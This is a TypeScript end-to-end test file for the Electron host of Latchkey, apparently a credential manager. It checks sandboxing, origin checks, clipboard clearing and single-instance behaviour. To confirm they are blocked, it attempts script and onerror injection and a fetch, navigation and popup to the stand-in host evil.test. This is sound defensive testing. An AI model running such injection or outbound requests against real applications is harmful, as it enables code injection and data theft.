import { spawnSync } from 'node:child_process';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeEach, describe, expect, it, type TestContext } from 'vitest';
import { whyNoSecretService } from '../secret-service.ts';
import { type ElectronRun, electronHost, startOnDouble } from './electron-host.ts';
import { built } from './loopback-run.ts';
import { seedKeys } from './seeded.ts';
import { openSandbox, row } from './window.ts';

let dataDir: string;
let run: ElectronRun;
let isRunning = false;

async function start(context: TestContext): Promise<void> {
  const obstacle = electronHost.obstacle() ?? whyNoSecretService();
  if (obstacle !== null) context.skip(obstacle);
  dataDir = await mkdtemp(join(tmpdir(), 'latchkey-e2e-'));
  run = await startOnDouble(dataDir);
  isRunning = true;
  await run.page.getByRole('button', { name: 'Try the sandbox' }).waitFor();
}

async function end(): Promise<void> {
  if (!isRunning) return;
  isRunning = false;
  await run.quit();
  await rm(dataDir, { recursive: true, force: true });
}

/** Shares one window among tests that leave it as it was. */
function onOneWindow(): void {
  beforeEach(async (context) => {
    if (!isRunning) await start(context);
  });
  afterAll(end);
}

describe('the window of the Electron host', () => {
  onOneWindow();

  it('is sandboxed and isolated, and its session is in memory', async () => {
    const { windows, sandboxEnabled } = await run.order('records');
    expect(sandboxEnabled).toBe(true);
    expect(windows).toMatchObject([
      {
        webPreferences: {
          sandbox: true,
          contextIsolation: true,
          nodeIntegration: false,
          webSecurity: true,
          session: 'window',
        },
      },
    ]);
  });

  it('gets two functions of the world outside it and nothing else', async () => {
    const seen = await run.page.evaluate(() => ({
      api: Object.keys(Reflect.get(window, 'latchkey') ?? {}),
      frozen: Object.isFrozen(Reflect.get(window, 'latchkey')),
      others: ['require', 'process', 'module', 'ipcRenderer', 'electron', 'doubleToMain'].filter(
        (name) => name in window,
      ),
    }));
    expect(seen).toEqual({ api: ['call', 'subscribe'], frozen: true, others: [] });
  });

  it('runs no script that was not built into it', async () => {
    const ran = await run.page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.wasInjected = true';
      document.head.append(script);
      const image = document.createElement('img');
      image.setAttribute('onerror', 'window.wasInjected = true');
      // The attribute's handler would run before this one.
      const failed = new Promise((resolve) => image.addEventListener('error', resolve));
      image.src = 'data:,';
      document.body.append(image);
      await failed;
      return 'wasInjected' in window;
    });
    expect(ran).toBe(false);
    // Text as code, like `eval`. The page itself compiles a timer's text; the test's connection does not.
    const evaluated = await run.page.evaluate(async () => {
      setTimeout('window.wasEvaluated = true');
      // Timers of the same delay run in the order in which they were set.
      await new Promise((resolve) => setTimeout(resolve));
      return 'wasEvaluated' in window;
    });
    expect(evaluated).toBe(false);
  });

  it('sends nothing elsewhere', async () => {
    const sent = await run.page.evaluate(() =>
      fetch('https://evil.test/?x=1').then(
        () => 'sent',
        () => 'refused',
      ),
    );
    expect(sent).toBe('refused');
    expect((await run.order('records')).checksSpelling).toBe(false);
  });

  it('stays where it is', async () => {
    const before = run.page.url();
    await run.page.evaluate(() => {
      location.href = 'https://evil.test/';
    });
    await run.page.getByRole('button', { name: 'Try the sandbox' }).waitFor();
    expect(run.page.url()).toBe(before);
  });

  it('opens no other window', async () => {
    await run.page.evaluate(() => void window.open('https://evil.test/'));
    await expect.poll(async () => (await run.order('records')).popups).toBe(1);
    await expect.poll(() => run.context.pages().filter((page) => page.url().includes('evil.test')).length).toBe(0);
    expect((await run.order('records')).opened).toEqual([]);
  });

  it('gives the page of a provider, and no other, to the browser of the user', async () => {
    await run.page.evaluate(() => void window.open('https://app.level.io/'));
    await expect.poll(async () => (await run.order('records')).opened).toEqual(['https://app.level.io/']);
    await expect.poll(() => run.context.pages().filter((page) => page.url().includes('level.io')).length).toBe(0);
  });

  it('gets no permission', async () => {
    const { permissions } = await run.order('records');
    expect(Object.keys(permissions).length).toBeGreaterThan(3);
    expect(Object.values(permissions)).not.toContain(true);
    const state = await run.page.evaluate(
      async () => (await navigator.permissions.query({ name: 'geolocation' })).state,
    );
    expect(state).toBe('denied');
  });
});

describe('a call', () => {
  onOneWindow();

  it.each([
    ['our window at another address', 'https://evil.test/', true],
    ['a frame inside our window', 'app://bundle/', false],
    ['an address that begins like ours', 'app://bundle.evil.test/', true],
  ])('from %s is refused', async (_who, url, isTop) => {
    const reply = await run.order('callFromForeignFrame', url, isTop, 'listAccounts', {});
    expect(reply).toMatchObject({ ok: false, error: { code: 'foreign_caller' } });
  });

  it('from our window is answered', async () => {
    const reply = await run.order('callFromForeignFrame', 'app://bundle/', true, 'listAccounts', {});
    expect(reply).toEqual({ ok: true, output: [] });
  });
});

describe('the clipboard of the Electron host', () => {
  beforeEach(async (context) => {
    await start(context);
    await openSandbox(run.page);
    await seedKeys(run.page, 'CI');
    await row(run.page, 'CI').click();
    await row(run.page, 'CI').getByText('Copied').waitFor();
  });
  afterEach(end);

  it('gets an entry that clipboard managers are told to keep out of their history', async () => {
    const { formats } = await run.order('readClipboard');
    expect(formats).toContain('text/plain');
    if (process.platform === 'linux') {
      expect(formats).toContain('electron application/osclipboard;format="x-kde-passwordManagerHint"');
    }
  });

  it('is cleared on demand, and left alone when it holds something else by then', async () => {
    // The first steps, if they are on the page, have a button of this name too.
    const clear = run.page.locator('.clipboard-bar').getByRole('button', { name: 'Clear clipboard' });
    await run.writeClipboard('a shopping list');
    await clear.click();
    await clear.waitFor({ state: 'detached' });
    expect(await run.readClipboard()).toBe('a shopping list');
    await row(run.page, 'CI').click();
    await clear.click();
    await expect.poll(run.readClipboard).toBe('');
  });

  it('is cleared when Latchkey quits', async () => {
    const { output } = run;
    await run.quit();
    expect(output()).toContain('clipboard at the end: {"text":"","formats":[]}');
    run.quit = async () => 0;
  });
});

describe('another start', () => {
  onOneWindow();

  it('of the Electron host on the same data folder ends at once and brings the first to the front', async () => {
    const second = startBeside(dataDir);
    expect(second.status).toBe(0);
    await expect.poll(async () => (await run.order('records')).secondInstances).toBe(1);
  });

  it('of the loopback host on the same data folder says in one sentence that the folder is in use', () => {
    const second = spawnSync(process.execPath, [join(built, 'main/loopback.js'), '--data-dir', dataDir], {
      encoding: 'utf8',
      timeout: 30_000,
    });
    expect(second.status).toBe(1);
    expect(second.stderr).toMatch(
      /^Latchkey is already running with the data folder .*\. Switch to it, or quit it first\.\n$/,
    );
    expect(second.stdout).toBe('');
  });

  it('of the Electron host on a data folder that cannot be written ends with one box that says so', () => {
    const started = startBeside('/dev/null/x');
    // By this code `npm start` tells it from a program that could not run at all.
    expect(started.status).toBe(78);
    expect(started.stderr).toContain(
      'error box: Latchkey can’t write to /dev/null/x: a file has the name of a folder in the path.',
    );
  });
});

/** Starts the Electron host again, on the Chromium of the first run, and expects it to end by itself. */
function startBeside(folder: string) {
  const double = join(import.meta.dirname, 'double/register.ts');
  const args = ['--import', double, join(built, 'main/electron.js'), '--data-dir', folder];
  const env = { ...process.env, LATCHKEY_DOUBLE_CDP: run.endpoint };
  return spawnSync(process.execPath, args, { env, encoding: 'utf8', timeout: 30_000 });
}
